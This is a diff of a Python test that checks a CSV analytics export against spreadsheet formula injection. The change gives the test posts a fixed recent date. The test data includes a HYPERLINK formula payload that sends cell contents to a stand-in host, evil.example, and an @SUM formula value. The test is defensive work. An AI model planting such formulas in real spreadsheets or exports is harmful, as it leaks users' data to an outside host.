@@ -105,8 +105,14 @@ def test_the_csv_export_has_every_post_of_this_persona_only(owner_client, person
 
 
 def test_the_csv_export_never_hands_a_spreadsheet_a_formula(owner_client, persona):
-    PostFactory(persona=persona, text='=HYPERLINK("http://evil.example/?d="&A1,"Click")')
-    PostFactory(persona=persona, text="@SUM(1+1)")
+    # Both in the export's default period (the factory's dates are random within the year).
+    yesterday = datetime.now(UTC) - timedelta(days=1)
+    PostFactory(
+        persona=persona,
+        text='=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        posted_at=yesterday,
+    )
+    PostFactory(persona=persona, text="@SUM(1+1)", posted_at=yesterday)
     answer = owner_client.get(reverse("analytics_export"))
     rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))
     texts = sorted(row[1] for row in rows[1:])
